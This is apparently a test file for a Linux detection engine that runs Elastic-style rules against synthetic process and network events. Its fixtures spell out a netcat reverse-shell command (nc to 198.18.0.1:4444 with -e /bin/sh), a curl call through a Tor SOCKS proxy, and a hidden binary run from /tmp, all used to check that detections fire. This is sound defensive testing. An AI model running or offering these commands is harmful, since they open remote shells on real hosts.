/**
 * Generality: rule files in the shapes Elastic's Linux rules take (optional `?field`s,
 * like~, args_count, regex~ on a working directory, sequences, other categories, KQL),
 * written for these tests. Lenient loading reports each rule that cannot run with its
 * reason, the rest run, and the runnable ones decide real-looking exec documents.
 */
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import type { ProcessInfo, ProcessView } from "../../../src/engine/rule.js";
import type { ExecEvent } from "../../../src/sensor/events.js";
import { loadRuleCatalog } from "../../../src/rules/catalog.js";
import { elasticRule } from "../../../src/rules/elastic/rule.js";
import { loadElasticRules } from "../../../src/rules/elastic/loader.js";
import { Engine } from "../../../src/engine/engine.js";
import { entityId } from "../../../src/process/ecs-process.js";
import { connect, exec as execOf, fork } from "../engine/fixtures.js";
import { buildConnectEcsDocument } from "../../../src/rules/elastic/ecs-network.js";
import { OFFLINE_HOST } from "../../../src/host/host-view.js";
import { ProcessTable } from "../../../src/process/table.js";

/** Elastic's sequences join on host.id: a host whose machine id is known. */
const withHostId = () => new ProcessTable({ host: { ...OFFLINE_HOST, hostId: () => "0123456789abcdef0123456789abcdef" } });

const dir = fileURLToPath(new URL("./fixtures/linux-like/", import.meta.url));

function exec(filename: string, args: string[]): ExecEvent {
  return {
    kind: "exec", timeNs: 1, timeMs: 1,
    task: { pid: 20, tid: 20, ppid: 10, uid: 0, gid: 0, cgroupId: 1, startNs: 2, comm: "x", parentComm: "bash" },
    filename, filenameTruncated: false, args, argsRaw: "", argsTruncated: false, loginUid: 0, stdio: null, capabilities: null,
  };
}

function view(parentExe: string, cwd?: string): ProcessView {
  const name = parentExe.slice(parentExe.lastIndexOf("/") + 1);
  const parent: ProcessInfo = { pid: 10, ppid: 1, startNs: 1, executable: parentExe, name, args: [name], uid: 0, comm: name, cgroupId: 1, exited: false };
  return { get: (pid) => (pid === 10 ? parent : undefined), ancestors: () => [], workingDirectory: () => cwd };
}

describe("Linux-like Elastic rules", () => {
  const results = loadElasticRules([dir], { lenient: true });
  const byId = new Map(results.filter((r) => r.rule).map((r) => [r.rule!.meta.id, elasticRule(r.rule!)]));
  const fires = (id: string, event: ExecEvent, processes: ProcessView) =>
    byId.get(id)!.evaluate(event, { processes, host: OFFLINE_HOST, now: () => 0 }) != null;

  it("runs the single-event process rules and skips the rest, each with its reason", () => {
    const status = Object.fromEntries(results.map((r) => [r.source.slice(dir.length), [r.status, r.reason?.replace(/^.*?\.toml(:\d+)?: /, "")]]));
    expect(status).toEqual({
      "a_optional_fields.toml": ["runs", undefined],
      "b_like_args_count.toml": ["runs", undefined],
      "c_working_dir.toml": ["runs", undefined],
      "d_sequence.toml": ["runs", undefined],
      "e_file.toml": ["skipped", 'event category "file" is not supported (only process, network, any)'],
      "f_kuery.toml": ["skipped", 'language "kuery" is not supported (only eql)'],
      "g_unprovided.toml": ["runs", undefined],
      "h_network.toml": ["runs", undefined],
      "i_relay_sequence.toml": ["runs", undefined],
      "j_never.toml": ["runs", undefined],
      "k_functions.toml": ["runs", undefined],
      "l_never_key.toml": ["runs", undefined],
    });
  });

  it("the catalog names the fields a runnable rule reads that sockeye never provides", () => {
    const { statuses } = loadRuleCatalog({ rulePaths: [dir], lenient: true });
    // entry_leader: its user is never given, and the catalog notes what is.
    expect(statuses.find((s) => s.id === "fx-unprovided")?.unprovidedFields).toEqual(["process.entry_leader.user.name"]);
    expect(statuses.find((s) => s.id === "fx-unprovided")?.notes?.[0]).toMatch(/^process\.entry_leader: pid, entity_id, .* never entry_meta\.source\.ip, user/);
    expect(statuses.find((s) => s.id === "fx-optional")?.unprovidedFields).toBeUndefined();
  });

  it("the catalog says which runnable rules can never fire, and why", () => {
    const { statuses } = loadRuleCatalog({ rulePaths: [dir], lenient: true });
    const never = Object.fromEntries(statuses.filter((s) => s.neverFires !== undefined).map((s): [string, string] => [s.id ?? "", s.neverFires ?? ""]));
    expect(never).toEqual({
      // entry_meta.type can be "sshd", but the entry leader's user is never filled.
      "fx-unprovided": "its condition needs a field or value sockeye never provides",
      // Change documents carry the effective and permitted capabilities, never the inheritable ones.
      "fx-never": "step 2 needs a field or value sockeye never provides",
      // Both steps can match, but a document without its join key joins no sequence.
      "fx-never-key": "step 1's join key process.entry_leader.entry_meta.source.ip is a field sockeye never provides",
    });
  });

  it("?field: matches a dash-led argument, and the optional parent executable excludes apt", () => {
    // A fresh event each time: the ECS document is cached per event object.
    const curl = () => exec("/usr/bin/curl", ["curl", "--socks5-hostname", "127.0.0.1:9050", "http://x"]);
    expect(fires("fx-optional", curl(), view("/usr/bin/bash"))).toBe(true);
    expect(fires("fx-optional", curl(), view("/usr/bin/apt"))).toBe(false);
    expect(fires("fx-optional", exec("/usr/bin/curl", ["curl", "http://x"]), view("/usr/bin/bash"))).toBe(false);
  });

  it("like~ and args_count", () => {
    expect(fires("fx-like", exec("/usr/bin/base64", ["BASE64", "-d", "f"]), view("/bin/sh"))).toBe(true);
    expect(fires("fx-like", exec("/usr/bin/base64", ["base64", "-d"]), view("/bin/sh"))).toBe(false);
    expect(fires("fx-like", exec("/usr/bin/base64", ["base64", "-d", "f"]), view("/usr/bin/python3"))).toBe(false);
  });

  it("working directory and regex~ on the executable", () => {
    expect(fires("fx-cwd", exec("/tmp/.x1", ["./.x1"]), view("/usr/bin/bash", "/tmp"))).toBe(true);
    expect(fires("fx-cwd", exec("/tmp/.x1", ["./.x1"]), view("/usr/bin/bash", "/home/u"))).toBe(false);
    expect(fires("fx-cwd", exec("/tmp/.x1", ["./.x1"]), view("/usr/bin/bash", undefined))).toBe(false);
    expect(fires("fx-cwd", exec("/tmp/x1", ["./x1"]), view("/usr/bin/bash", "/tmp"))).toBe(false);
  });
});

describe("Elastic network documents and sequences through the engine", () => {
  const results = loadElasticRules([dir], { lenient: true });
  const rule = (id: string) => elasticRule(results.find((r) => r.rule?.meta.id === id)!.rule!);
  const T = 1_000_000;
  const bash = { pid: 100, ppid: 1, startNs: 1_000 * T, comm: "bash", parentComm: "sshd" };
  const nc = { pid: 200, ppid: 100, startNs: 2_000 * T, comm: "nc", parentComm: "bash" };
  const sh = { pid: 300, ppid: 200, startNs: 3_000 * T, comm: "sh", parentComm: "nc" };
  const at = (ms: number) => ({ timeMs: 1_800_000_000_000 + ms });
  const shellEvents = (address: string, shellAtMs: number) => [
    execOf({ ...at(0), task: bash, filename: "/usr/bin/bash", args: ["bash"] }),
    fork({ ...at(1), task: nc }),
    execOf({ ...at(2), task: nc, filename: "/usr/bin/nc", args: ["nc", address, "4444", "-e", "/bin/sh"] }),
    connect({ ...at(3), task: nc, fd: 3, remote: { address, port: 4444 } }),
    fork({ ...at(shellAtMs - 1), task: sh }),
    execOf({ ...at(shellAtMs), task: sh, filename: "/bin/sh", args: ["/bin/sh"] }),
  ];
  // Fixture timing puts timeNs 1 ms per ms apart, as the kernel's clock would be.
  const findings = (events: ReturnType<typeof shellEvents>) => {
    const engine = new Engine({ rules: [rule("fx-relay"), rule("fx-network")], fold: false, hostName: "h", now: () => 0, processes: withHostId() });
    return events.flatMap((event) => engine.handle(event));
  };

  it("nc connecting out (fd 3) then starting sh fires the relay sequence, with both events listed", () => {
    const out = findings(shellEvents("198.18.0.1", 100));
    expect(out.map((f) => f.rule.id)).toEqual(["fx-relay"]);
    const finding = out[0] as unknown as { process: { pid: number }; sockeye: { sequence: { kind: string; pid: number }[] } };
    expect(finding.process.pid).toBe(300);
    expect(finding.sockeye.sequence.map((e) => [e.kind, e.pid])).toEqual([["connect", 200], ["exec", 300]]);
  });

  it("the sensor's outbound record (a TCP connect on fd 3, from the relay hook) makes the same network document", () => {
    const events = shellEvents("198.18.0.1", 100).map((e) =>
      e.kind === "connect"
        ? { kind: "outbound" as const, timeNs: e.timeNs, timeMs: e.timeMs, task: e.task, fd: 3, result: 0, socketIno: 4242, family: "inet" as const, transport: "tcp" as const,
            local: { address: "10.0.0.5", port: 40000 }, remote: { address: "198.18.0.1", port: 4444 } }
        : e,
    );
    const out = findings(events as ReturnType<typeof shellEvents>);
    expect(out.map((f) => f.rule.id)).toEqual(["fx-relay"]);
  });

  it("not to loopback, not past maxspan", () => {
    expect(findings(shellEvents("127.0.0.1", 100))).toEqual([]);
    expect(findings(shellEvents("::ffff:127.0.0.1", 100))).toEqual([]);
    expect(findings(shellEvents("198.18.0.1", 5_004))).toEqual([]);
  });

  it("the engine's stats count the sequence's partial matches: matched, expired past maxspan, held", () => {
    const engine = new Engine({ rules: [rule("fx-relay"), rule("fx-network")], fold: false, hostName: "h", now: () => 0, processes: withHostId() });
    // The second shell 10 s later: within the reorder window its events would be late ones, put before the first shell's.
    const later = shellEvents("198.18.0.1", 5_004).map((e) => ({ ...e, timeMs: e.timeMs + 10_000, timeNs: e.timeNs + 10_000 * T }));
    for (const event of [...shellEvents("198.18.0.1", 100), ...later]) engine.handle(event);
    expect(engine.stats().sequences).toEqual({ "fx-relay": { partials: 0, matched: 1, expired: 1, evicted: 0, untilDropped: 0 } });
    engine.handle({ ...shellEvents("198.18.0.1", 100)[3]!, timeMs: 1_800_000_030_000, timeNs: 30_000 * T });
    expect(engine.stats().sequences["fx-relay"]?.partials).toBe(1);
  });

  it("the network document is the one Elastic Defend sends for a connect", () => {
    const seen: Record<string, unknown>[] = [];
    const engine = new Engine({ rules: [], fold: false });
    for (const event of shellEvents("::ffff:198.18.0.1", 100).slice(0, 3)) engine.handle(event);
    const event = connect({ ...at(3), task: nc, fd: 7, family: "inet6", familyNumber: 10, remote: { address: "::ffff:198.18.0.1", port: 4444 } });
    seen.push(buildConnectEcsDocument(event, engine.processes));
    expect(seen[0]).toMatchObject({
      event: { category: ["network"], type: ["start"], action: "connection_attempted", kind: "event", outcome: "success" },
      host: { os: { type: "linux" } },
      process: { pid: 200, entity_id: entityId(200, 2_000 * T, ""), name: "nc", executable: "/usr/bin/nc", parent: { pid: 100, name: "bash", entity_id: entityId(100, 1_000 * T, "") } },
      destination: { ip: "198.18.0.1", address: "198.18.0.1", port: 4444 },
      network: { direction: "egress", type: "ipv4", transport: "tcp" },
      user: { id: "1000" },
    });
  });

  it("a python connect to a public address fires the network rule; unix and private ones do not", () => {
    const py = { pid: 400, ppid: 100, startNs: 4_000 * T, comm: "python3", parentComm: "bash" };
    const engine = new Engine({ rules: [rule("fx-network")], fold: false, hostName: "h", now: () => 0 });
    engine.handle(execOf({ ...at(0), task: py, filename: "/usr/bin/python3", args: ["python3"] }));
    expect(engine.handle(connect({ ...at(1), task: py, remote: { address: "203.0.113.9", port: 443 } })).map((f) => f.rule.id)).toEqual(["fx-network"]);
    expect(engine.handle(connect({ ...at(2), task: py, remote: { address: "10.1.1.1", port: 443 } }))).toEqual([]);
    expect(engine.handle(connect({ ...at(3), task: py, family: "unix", familyNumber: 1, remote: null, unixPath: "/run/x" }))).toEqual([]);
  });

  it("functions in a process rule", () => {
    const py = { pid: 500, ppid: 100, startNs: 5_000 * T, comm: "python3", parentComm: "bash" };
    const engine = new Engine({ rules: [rule("fx-functions")], fold: false, hostName: "h", now: () => 0 });
    engine.handle(execOf({ ...at(0), task: bash, filename: "/usr/bin/bash", args: ["bash"] }));
    expect(engine.handle(execOf({ ...at(1), task: py, filename: "/usr/bin/python3", args: ["/usr/bin/python3", "x.py"] })).length).toBe(1);
    expect(engine.handle(execOf({ ...at(2), task: py, filename: "/usr/bin/python3", args: ["python3"] })).length).toBe(0);
  });
});
